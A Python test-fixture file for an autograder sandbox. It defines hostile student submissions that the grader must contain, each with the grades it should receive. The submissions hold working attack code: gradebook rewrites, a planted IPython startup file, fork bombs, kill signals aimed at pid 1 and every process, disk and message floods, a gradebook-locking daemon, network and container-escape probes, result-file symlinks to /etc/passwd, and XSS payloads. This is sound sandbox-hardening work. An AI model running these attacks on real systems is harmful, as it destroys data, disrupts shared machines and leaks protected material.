"""Hostile submissions: escape attempts and run-breakers (the sandbox's half of issue 8).

Same `Variant` format as catalogue.py, which imports this list (HOSTILE) and
appends it. Each one is the source solution of bn_forward plus an attack,
written to do real harm if it got out: it searches the whole visible file
system for the course (gradebook.db, nbgrader_config.py, source notebooks,
other students' submissions) and for bnkit's reference, and acts on what it
finds. To keep a failure of the sandbox harmless on a shared machine, files
outside a temporary directory are only ever given a marker comment
(`# bngrade-hostile`), never broken.

Each entry says the grades it must get: `lose` (tests below full marks, all
others full) and, where exact, `expect`. The control students in the same
nbgrader run (catalogue.CONTROLS) must keep their grades; tests/test_sandbox.py
also checks that the course files the attacks aim at are unchanged.
"""
# ruff: noqa: E501 (a data file: attack code quoted whole)
from catalogue import Variant

FWD = "batchnorm_forward"
ALL_FORWARD = frozenset({"test_train_output", "test_running_stats", "test_eval"})
ZERO_FORWARD = {"test_train_output": 0, "test_running_stats": 0, "test_eval": 0}
MARK = "# bngrade-hostile: this file was reached from a student's kernel\n"

# Finds files by name anywhere the kernel can see (and where the course used to be: ../../.. of the cwd).
HUNT = '''
import os, sys, glob, time, signal, socket

def _hunt(names, extra=()):
    found, roots = [], ["/", os.path.abspath("../../.."), os.path.expanduser("~"), "/tmp", "/work", "/root", "/home"]
    for root in roots + list(extra):
        for dirpath, dirnames, filenames in os.walk(root):
            if dirpath.startswith(("/proc", "/sys", "/dev", "/usr", sys.base_prefix)) or dirpath.count("/") > 9:
                dirnames[:] = []
                continue
            found += [os.path.join(dirpath, n) for n in filenames if n in names]
            if len(found) > 200:
                return sorted(set(found))
    return sorted(set(found))

def _mark(path):
    try:
        if path.startswith("/tmp/"):
            with open(path, "w") as f:
                f.write("{}")
        else:
            with open(path, "a") as f:
                f.write(%r)
        print("HOSTILE: changed", path)
    except OSError as e:
        print("hostile: could not change", path, "-", e.strerror)
''' % MARK


def _before(code):
    """The attack as module-level code above the student's (correct) forward."""
    return {FWD: [("def batchnorm_forward(", HUNT.strip("\n") + "\n\n" + code.strip("\n") + "\n\n\ndef batchnorm_forward(")]}


def _forward(body):
    """The whole forward cell replaced: `body` decides what the forward returns."""
    return {FWD: HUNT.strip("\n") + "\n\nimport numpy as np\n\n" + body.strip("\n") + "\n"}


def V(name, why, lose=frozenset(), **kw):
    return Variant(name, "bn_forward", "hostile", why, frozenset(lose), **kw)


HOSTILE = [
    # ---- rewrite what only the grader may write
    V("hostile_gradebook_rewrite", "finds gradebook.db and zeroes every grade in it: nothing to find",
      edits=_before('''
import sqlite3
for _db in _hunt({"gradebook.db"}):
    try:
        with sqlite3.connect(_db, timeout=1) as _c:
            _c.execute("UPDATE grade SET auto_score = 0, manual_score = 0")
        print("HOSTILE: rewrote", _db)
    except Exception as e:
        print("hostile: gradebook not writable:", _db, e)
print("hostile: gradebooks seen:", _hunt({"gradebook.db"}))
''')),
    V("hostile_other_submissions", "overwrites every other notebook it finds (submitted/, autograded/, release/)",
      edits=_before('''
_own = os.path.abspath(".")
for _nb in [p for p in _hunt({"bn_forward.ipynb"}) if not p.startswith(_own)]:
    _mark(_nb)
''')),
    V("hostile_config_rewrite", "appends to nbgrader_config.py (in the old world: dropped the tamper flag)",
      edits=_before('''
for _cfg in _hunt({"nbgrader_config.py"}):
    _mark(_cfg)
print("hostile: configs seen:", _hunt({"nbgrader_config.py"}))
''')),
    V("hostile_reference_rewrite", "writes into bnkit's reference (fast.py, staged.py) and the sandbox's gradcheck",
      edits=_before('''
import bnkit.gradcheck
for _ref in _hunt({"fast.py", "staged.py", "norms.py", "verdict.py"}) + [bnkit.gradcheck.__file__]:
    _mark(_ref)
''')),
    V("hostile_ipython_startup", "plants an IPython startup file that breaks np.sqrt in every later grading kernel",
      edits=_before('''
_payload = "import os, numpy\\nif os.environ.get('BNGRADE_RESULTS'):\\n    numpy.sqrt = lambda a: a\\n"
for _home in {os.path.expanduser("~"), "/root", "/home/student", "/etc/ipython", sys.prefix + "/etc/ipython"}:
    _d = os.path.join(_home, ".ipython/profile_default/startup") if "etc" not in _home else _home
    try:
        os.makedirs(_d, exist_ok=True)
        with open(os.path.join(_d, "00-hostile.py"), "w") as _f:
            _f.write(_payload)
        print("planted in", _d)
    except OSError as e:
        print("hostile: no startup file in", _d, "-", e.strerror)
''')),
    # ---- read what only the grader may read
    V("hostile_print_sources", "prints every source notebook (hidden tests) and the gradebook into its feedback",
      edits=_before('''
for _p in _hunt({"bn_forward.ipynb", "bn_backward_fast.ipynb", "gradebook.db", "harness.py", "verdict.py"}):
    try:
        print("HOSTILE:", _p, open(_p, "rb").read(3000))
    except OSError as e:
        print("hostile: cannot read", _p, e.strerror)
''')),
    V("hostile_read_reference", "its own forward is wrong (returns x); it uses bnkit.fast, torch or fast.py "
      "off disk when it can find one: it cannot, so it scores zero", ALL_FORWARD, expect=ZERO_FORWARD,
      cells=_forward('''
def _reference():
    try:
        from bnkit.fast import batchnorm_forward as ref
        return ref
    except ImportError:
        pass
    try:
        import torch  # noqa: F401
        print("HOSTILE: torch imported")
    except ImportError:
        pass
    for path in _hunt({"fast.py"}):
        if "bnkit" in path:
            ns = {}
            exec(open(path).read(), ns)
            return ns.get("batchnorm_forward")
    return None


def batchnorm_forward(x, gamma, beta, bn_param):
    ref = _reference()
    if ref is not None:
        print("HOSTILE: found the reference")
        return ref(x, gamma, beta, bn_param)
    return x, None
''')),
    # ---- break the run for everyone
    V("hostile_kill_parent", "after the tests: kills its parent, pid 1 and every process it may signal "
      "(its own kernel dies; the results written before stand; the run goes on)",
      append='''
import os, signal
for _pid in (os.getppid(), 1):
    try:
        os.kill(_pid, signal.SIGKILL)
    except OSError as e:
        print("cannot kill", _pid, e.strerror)
os.kill(-1, signal.SIGKILL)
'''),
    V("hostile_sqlite_lock_daemon", "a daemon (double fork, new session) that holds an exclusive lock on any "
      "gradebook it finds, for an hour; it is killed with the sandbox",
      edits=_before('''
import sqlite3
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        _locks = []
        for _db in _hunt({"gradebook.db"}):
            try:
                _c = sqlite3.connect(_db, timeout=1, isolation_level=None)
                _c.execute("BEGIN EXCLUSIVE")
                _locks.append(_c)
            except Exception:
                pass
        time.sleep(3600)
    os._exit(0)
time.sleep(0.2)
''')),
    V("hostile_fork_bomb", "after the tests: a fork bomb for 3 s whose processes then stay (killed at the end)",
      append='''
import os, time
_me, _t = os.getpid(), time.time()
while time.time() - _t < 3:
    try:
        os.fork()
    except OSError:
        time.sleep(0.01)
if os.getpid() != _me:  # every child stays, sleeping, until the sandbox goes
    while True:
        time.sleep(1)
print("fork bomb done")
'''),
    V("hostile_alloc_10gb", "its training forward first allocates 10 GB: MemoryError there (the sandbox's "
      "address-space limit), so those tests score zero; eval is unaffected",
      {"test_train_output", "test_running_stats"}, expect={"test_train_output": 0, "test_running_stats": 0},
      edits={FWD: [("        mu = x.mean(axis=0)\n", "        _hog = np.ones(10 * 2 ** 30 // 8)\n        mu = x.mean(axis=0)\n")]}),
    V("hostile_flood_output", "after the tests: prints without end (the cell is cut at the output cap and "
      "interrupted; the grader's memory stays flat)",
      append="import sys\nwhile True:\n    sys.stdout.write('flood ' * 2000 + '\\n')\n"),
    V("hostile_disk_fill", "after the tests: fills the work directory, HOME and /tmp (a capped tmpfs)",
      append='''
import os
for _d in (".", os.path.expanduser("~"), "/tmp"):
    try:
        for _i in range(40):
            with open(os.path.join(_d, f"fill{_i}"), "wb") as _f:
                _f.write(b"0" * (32 << 20))
    except OSError as e:
        print("fill stopped in", _d, "after", _i, "files:", e.strerror)
'''),
    V("hostile_network", "opens sockets: TCP, UDP, DNS, the docker socket",
      edits=_before('''
for _what, _try in [("tcp", lambda: socket.create_connection(("1.1.1.1", 80), timeout=3)),
                    ("dns", lambda: socket.getaddrinfo("pypi.org", 443)),
                    ("udp", lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x", ("8.8.8.8", 53))),
                    ("docker", lambda: socket.socket(socket.AF_UNIX).connect("/run/docker.sock"))]:
    try:
        _try()
        print("HOSTILE: network reachable:", _what)
    except OSError as e:
        print("hostile: no", _what, "-", e)
''')),
    # ---- attacks on the sandbox itself and on the grader's reading of the results
    V("hostile_symlink_results", "after the tests: replaces its result files by symlinks to /etc/passwd and "
      "the gradebook; the grader never follows them, so its own results are gone: zero", ALL_FORWARD,
      expect=ZERO_FORWARD, append='''
import os
_r = os.environ.get("BNGRADE_RESULTS", "")
for _n in os.listdir(_r) if _r else []:
    os.remove(os.path.join(_r, _n))
    os.symlink("/etc/passwd", os.path.join(_r, _n))
'''),
    V("hostile_results_dir_swapped", "after the tests: moves the results directory away and puts a symlink to / "
      "in its place; the grader refuses the link and keeps what it read after each test cell: full marks",
      append='''
import os
_r = os.environ.get("BNGRADE_RESULTS", "")
if _r:
    os.rename(_r, _r + ".moved")
    os.symlink("/", _r)
'''),
    V("hostile_huge_result", "after the tests: rewrites its test_train_output result as 20 MiB: over the cap, "
      "that test scores zero, the others stand", {"test_train_output"}, expect={"test_train_output": 0},
      append='''
import os
_r = os.environ.get("BNGRADE_RESULTS", "")
for _n in os.listdir(_r) if _r else []:
    if _n.startswith("test_train_output"):
        with open(os.path.join(_r, _n), "wb") as _f:
            _f.write(b" " * (20 << 20))
'''),
    V("hostile_kernel_exit", "the forward cell ends its kernel (os._exit) after defining the function: no "
      "test runs, zero everywhere, the run goes on", ALL_FORWARD, expect=ZERO_FORWARD,
      edits={FWD: [("    return out, cache", "    return out, cache\n\n\nimport os\nos._exit(3)")]}),
    V("hostile_escape_probe", "after the tests: setuid(0), chroot, a new user namespace and mount, ptrace of "
      "pid 1, /proc/1/root, the mount table: nothing of the host",
      append='''
import os, ctypes
libc = ctypes.CDLL(None, use_errno=True)
for _what, _try in [("setuid0", lambda: os.setuid(0)), ("chroot", lambda: os.chroot("/tmp")),
                    ("proc1root", lambda: os.listdir("/proc/1/root/")),
                    ("unshare-user", lambda: libc.unshare(0x10000000) == 0 or (_ for _ in ()).throw(OSError(ctypes.get_errno(), "unshare"))),
                    ("ptrace1", lambda: libc.ptrace(16, 1, 0, 0) == 0 or (_ for _ in ()).throw(OSError(ctypes.get_errno(), "ptrace")))]:
    try:
        print(_what, "->", _try())
    except OSError as e:
        print("hostile:", _what, "refused:", e)
print([line.split()[4] for line in open("/proc/self/mountinfo")][:40])
'''),
    V("hostile_ipc_dir_write", "after the tests: writes big files next to its connection file (a host "
      "directory) and rewrites the connection file: refused, nothing reaches the host disk",
      append='''
import os
from ipykernel import get_connection_file
_cf = get_connection_file()
for _i in range(3):
    try:
        with open(os.path.join(os.path.dirname(_cf), f"fill{_i}"), "wb") as _f:
            _f.write(b"0" * (60 << 20))
        print("HOSTILE: wrote beside the connection file", _i)
    except OSError as e:
        print("hostile: ipc dir refused:", e.strerror)
try:
    open(_cf, "w").write("{}")
    print("HOSTILE: rewrote the connection file")
except OSError as e:
    print("hostile: connection file refused:", e.strerror)
'''),
]

# --- channels (issue 14) ---
# Kernel messages, HTML and hidden cases (bngrade/output_caps.py, bngrade/safe_html.py, bngrade/verdict.py).
# tests/test_assignments.py also checks, for every student of the run, that the autograded notebook is at
# most 2 MiB above the released one and that no feedback page holds a student's script or event handler.
_SEND = '''
k = get_ipython().kernel
def send(msg_type, content, buffers=None):
    k.session.send(k.iopub_socket, msg_type, content, parent=k.get_parent(), buffers=buffers)
'''
HOSTILE += [
    V("hostile_hidden_cases_in_errors", "raises, on hidden cases only, an exception of its own class named after "
      "the seed whose message holds the whole case list read from the caller (and warns it, and returns an "
      "object whose class name holds it): the hidden lines say only 'failed' and a category, the visible cases "
      "pass", ALL_FORWARD, expect={"test_train_output": 0.75, "test_running_stats": 0.5, "test_eval": 0.5},
      feedback={"test_train_output": ["(hidden)", "failed: your code raised"],
                "test_running_stats": ["not an array of floats"]},
      edits={FWD: [('    mode = bn_param.get("mode", "train")\n', '''    import sys as _s, warnings as _w
    _f = _s._getframe(1)
    while _f is not None and "seed" not in _f.f_locals:
        _f = _f.f_back
    if _f is not None and _f.f_locals["seed"] not in (0, 1, 2):
        _g = _f
        while _g is not None and "cases" not in _g.f_locals:
            _g = _g.f_back
        _leak = "hidden cases " + repr(_g.f_locals["cases"] if _g else None)
        _w.warn(_leak)
        if _f.f_locals["check"].startswith("running"):
            return type("Leak_" + _leak.replace(" ", "_")[:80], (), {})(), None
        raise type("Seed_%s" % _f.f_locals["seed"], (ValueError,), {})(_leak)
    mode = bn_param.get("mode", "train")
''')]}),
    V("hostile_message_floods", "after the tests, with the interrupt caught: a display update copied into 150 "
      "outputs, display metadata, raw error messages, comm/widget state with buffers and string execution "
      "counts, each MiBs: all counted and dropped, the notebook stays small, full marks",
      append=_SEND + '''
from IPython.display import display, update_display
try:
    for i in range(150):
        display({"text/plain": "x"}, raw=True, display_id="d")
    for i in range(5):
        update_display({"text/plain": "y" * 200_000}, raw=True, display_id="d")
    for i in range(5):
        display({"text/plain": "m"}, raw=True, metadata={"a": "z" * 2_000_000})
    for i in range(3):
        send("error", {"ename": "E" * 100_000, "evalue": "v" * 2_000_000, "traceback": ["t" * 1000] * 100})
    for i in range(5):
        send("comm_open", {"comm_id": str(i), "target_name": "jupyter.widget", "data": {"state": {
            "_model_name": "OutputModel", "_model_module": "@jupyter-widgets/output", "v": "w" * 2_000_000},
            "buffer_paths": [["b"]]}}, buffers=[b"b" * 2_000_000])
    for i in range(3):
        send("execute_result", {"data": {"text/plain": "1"}, "metadata": {}, "execution_count": "c" * 2_000_000})
except KeyboardInterrupt:
    print("hostile: interrupted, going on")
'''),
    V("hostile_grader_memory", "after the tests: three display messages of forty 30 MiB buffers each (1.2 GB "
      "queued in the grader's zmq): the grader's memory watchdog stops the kernel, full marks",
      append=_SEND + '''
_b = b"x" * (30 << 20)
for _i in range(3):
    send("display_data", {"data": {"text/plain": "b"}, "metadata": {}}, buffers=[_b] * 40)
'''),
    V("hostile_html_payloads", "a written answer and outputs holding script in every shape (img onerror, svg "
      "onload, javascript: links, iframe srcdoc, <script>, a form, an external image, raw text/html, SVG and "
      "JavaScript outputs): sanitised away in the feedback and the formgrader (tests/test_inert_html.py loads "
      "them in Chromium), full marks",
      cells={"train_eval_answer": '''Batch statistics at test time would make $\\hat{x}$ depend on the batch.
<img src="x" onerror="document.title='PWNED'"> <svg onload="document.title='PWNED'"></svg>
<a href="javascript:document.title='PWNED'">link</a> [md](javascript:document.title='PWNED')
<iframe srcdoc="<script>parent.document.title='PWNED'</script>"></iframe>
<script>document.title='PWNED'</script><form action="http://127.0.0.1:9/"><button>go</button></form>
<img src="http://127.0.0.1:9/pixel.png">
'''},
      append='''
from IPython.display import display, HTML
display(HTML('<img src="x" onerror="document.title=\\'PWNED\\'">'))
display({"text/html": "<script>document.title='PWNED'</script>"}, raw=True)
display({"image/svg+xml": '<svg xmlns="http://www.w3.org/2000/svg" onload="document.title=1"><script>1</script></svg>'}, raw=True)
display({"application/javascript": "document.title='PWNED'"}, raw=True)
'''),
]
